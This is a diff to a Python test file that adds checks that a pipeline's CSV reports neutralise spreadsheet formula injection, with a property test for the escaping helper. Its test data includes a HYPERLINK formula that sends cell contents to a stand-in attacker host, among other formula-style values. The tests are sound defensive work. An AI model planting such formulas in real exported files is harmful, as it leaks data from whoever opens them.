@@ -11,12 +11,14 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from sqlalchemy import Engine
 from sqlalchemy.orm import Session
 
 from pipeline.masking import mask_email, mask_phone
 from pipeline.metrics import campaign_status
-from pipeline.report import render_report, report_columns
+from pipeline.report import FORMULA_STARTS, neutralise_formula, render_report, report_columns
 from tests import sched_data as data
 
 PHONE, EMAIL = "+15557654321", "ada.lovelace@example.com"
@@ -51,7 +53,8 @@ def test_csv_has_one_masked_row_per_case_and_the_summary(filled: tuple[Session, 
     assert list(rows[0]) == report_columns()
     assert len(rows) == 2
     first = rows[0]
-    assert (first["phone"], first["email"]) == (mask_phone(PHONE), mask_email(EMAIL))
+    # A masked phone starts with "+": written as text, not as a formula (see below).
+    assert (first["phone"], first["email"]) == ("'" + mask_phone(PHONE), mask_email(EMAIL))
     assert (first["state"], first["last_response"], first["answered_step"]) == (
         "completed",
         "agree",
@@ -60,6 +63,35 @@ def test_csv_has_one_masked_row_per_case_and_the_summary(filled: tuple[Session, 
     assert first["attempts"] == "1" and rows[1]["attempts"] == "0"
     completion = campaign_status(session, campaign_id)["rates"]["completion"]
     assert f"# completion rate: {completion:.1%}" in text
+
+
+HOSTILE_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_IDS)
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
+    sqlite_engine: Engine, hostile: str
+) -> None:
+    with Session(sqlite_engine, expire_on_commit=False) as session:
+        campaign = data.campaign(session)
+        data.case(session, campaign, data.recipient(session, external_id=hostile))
+        session.commit()
+        text = render_report(session, campaign.id, "csv")
+    table = [line for line in text.splitlines() if not line.startswith("#")]
+    (row,) = csv.DictReader(io.StringIO("\n".join(table)))
+    assert row["external_id"] == "'" + hostile
+    for cell in row.values():
+        assert not cell.startswith(FORMULA_STARTS), cell
+
+
+@given(st.text(max_size=30) | st.integers() | st.floats(allow_nan=False) | st.none())
+def test_no_neutralised_cell_starts_a_formula_and_text_survives(cell: object) -> None:
+    out = neutralise_formula(cell)
+    if isinstance(cell, str):
+        assert not str(out).startswith(FORMULA_STARTS)
+        assert str(out).removeprefix("'") == cell or out == cell
+    else:
+        assert out is cell
 
 
 def test_html_is_escaped_and_masked(filled: tuple[Session, int]) -> None:
